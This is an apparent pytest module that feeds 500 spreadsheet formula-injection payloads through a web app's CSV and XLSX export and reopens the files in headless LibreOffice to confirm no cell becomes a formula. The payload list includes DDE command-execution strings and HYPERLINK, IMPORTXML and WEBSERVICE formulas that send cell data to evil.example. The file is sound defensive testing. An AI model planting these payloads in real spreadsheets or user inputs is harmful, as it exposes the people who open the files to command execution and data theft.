"""What people write never becomes a formula: 500 payloads through the real routes, read again by a real spreadsheet program.

LibreOffice is started once for each format and separator. What it makes of a file is looked at in its own flat format, where a formula is
an attribute of its cell. CSV is opened as it is meant, and as a program set to Turkish or German would: its cells parted by semicolons.
"""

import csv
import itertools
import os
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from hyperpanel.support import sheet_files
from hyperpanel.web.texts import shown
from tests.support import databases, machine
from tests.support.staged import NOON, order, stage

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
KNOWN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example?x="&A1;"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=1+1";=1+1;"',
    'x";=1+1;"y',
    'x";"=1+1',
    'x","=1+1',
    "x,=1+1",
    "x;=1+1",
    "x;  =1+1",
    'x;"=1+1',
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "x\r=1+1;y",
    "\ufeff=1+1",
    '\ufeff"=1+1',
    "\u200b=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "'\"=1+1",
    "ID;P",
    "ID;PWXL;N;E\nC;X1;Y1;E1+1",
    "{=1+1}",
    "=1+1|x",
    "|=1+1",
    "%0A=1+1",
    "=\x00=1+1",
    "\x01=1+1",
    "\x7f=1+1",
    "_x003D_1+1",
    "&#61;1+1",
    "]]><f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "sep=;",
)
BEFORE = ("", " ", "  ", "\t", "\r", "\n", "\u00a0", "\u200b", "'", '"', "x;", "x\t", 'x"; ', "x\n", "\ufeff")
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example")')
MADE = ("".join(parts) for parts in itertools.product(BEFORE, SIGNS, BODIES))
PAYLOADS = [*KNOWN, *itertools.islice(MADE, 500 - len(KNOWN))]
COMMA, SEMICOLON = "44", "59"
COLUMNS = ("User", "Link", "Service name", "Provider")


@pytest.fixture(scope="module")
def program() -> str:
    return machine.spreadsheet()


@pytest.fixture(scope="module")
async def written(run_folder, tmp_path_factory) -> Path:
    """Both formats, as a browser gets them: a payload is an order's user, its link, its provider and its service's name. Beside them a file
    of the same texts that nobody made safe."""
    folder: Path = tmp_path_factory.mktemp("exports")
    async with stage(databases.sqlite_copy(run_folder, folder, migrated=True)) as made:
        await made.keep(*(holding(n, text) for n, text in enumerate(PAYLOADS)))
        ana = await made.signed_in("ana")
        for format in ("csv", "xlsx"):
            answer = await ana.post("/exports/begin/orders?sort=created", data={"format": format})
            (folder / f"orders.{format}").write_bytes(answer.content)
    with (folder / "unsafe.csv").open("w", encoding="utf-8", newline="") as into:
        csv.writer(into).writerows([text] for text in PAYLOADS)
    return folder


def holding(n: int, text: str) -> dict[str, Any]:
    texts = {"user": text, "link": text, "provider": text, "service_name": text}
    return order(f"{n:06}", charge=-n * 10**8, created_at=NOON - timedelta(hours=1), **texts)


def opened(program: str, folder: Path, *files: str, reading: str = "") -> list[ElementTree.Element]:
    """As the program has them in memory."""
    told = [f"--infilter=CSV:{reading},34,76,1"] if reading else []
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    made = folder / f"read-{reading}"
    places = [folder / file for file in files]
    asked: list[str | Path] = [
        program,
        "--headless",
        "--norestore",
        profile,
        *told,
        "--convert-to",
        "fods",
        "--outdir",
        made,
        *places,
    ]
    subprocess.run(asked, check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(folder)})
    return [ElementTree.parse(made / f"{place.stem}.fods").getroot() for place in places]  # noqa: S314 -- what our own program wrote


def formulas(document: ElementTree.Element) -> list[str]:
    told = (cell.get(f"{TABLE}formula") for cell in document.iter(f"{TABLE}table-cell"))
    return [one for one in told if one]


def rows(document: ElementTree.Element) -> list[list[ElementTree.Element]]:
    """Their cells; one that stands for several is there as often."""
    return [
        [cell for cell in row.iter(f"{TABLE}table-cell") for _ in range(times(cell))]
        for row in document.iter(f"{TABLE}table-row")
    ]


def times(cell: ElementTree.Element) -> int:
    return min(20, int(cell.get(f"{TABLE}number-columns-repeated", "1")))


def said(cell: ElementTree.Element) -> str:
    return "\n".join("".join(pieces(part)) for part in cell.iter(f"{TEXT}p"))


def pieces(part: ElementTree.Element) -> Iterator[str]:
    """The flat format writes several spaces as one mark."""
    yield part.text or ""
    for inner in part:
        yield " " * int(inner.get(f"{TEXT}c", "1")) if inner.tag == f"{TEXT}s" else "".join(pieces(inner))
        yield inner.tail or ""


def told_of(document: ElementTree.Element) -> list[tuple[str, ...]]:
    """What stands in the columns that have other people's text, and whether the charge is a number."""
    head, *others = rows(document)
    heads = [said(cell) for cell in head]
    places = [heads.index(name) for name in COLUMNS]
    charge = heads.index("Charge")
    found = [row for row in others if len(row) >= len(heads) and said(row[0])]
    kinds = {row[charge].get(f"{OFFICE}value-type") for row in found}
    assert kinds == {"float"}
    assert min(float(row[charge].get(f"{OFFICE}value", "0")) for row in found) == 1 - len(PAYLOADS)
    return [tuple(said(row[place]) for place in places) for row in found]


def test_no_cell_of_a_csv_is_a_formula_and_each_text_is_there_again(program, written):
    safe, unsafe = opened(program, written, "orders.csv", "unsafe.csv", reading=COMMA)
    assert len(formulas(unsafe)) > 10
    assert formulas(safe) == []
    assert told_of(safe) == [(sheet_files.told(shown(text) or ""),) * len(COLUMNS) for text in PAYLOADS]


def test_no_cell_of_a_csv_is_a_formula_where_semicolons_part_them(program, written):
    safe, unsafe = opened(program, written, "orders.csv", "unsafe.csv", reading=SEMICOLON)
    assert len(formulas(unsafe)) > 10
    assert formulas(safe) == []


def test_no_cell_of_a_workbook_is_a_formula_and_each_text_is_there_again(program, written):
    [safe] = opened(program, written, "orders.xlsx")
    assert formulas(safe) == []
    assert list(safe.iter(f"{TEXT}a")) == []
    assert told_of(safe) == [(shown(text),) * len(COLUMNS) for text in PAYLOADS]
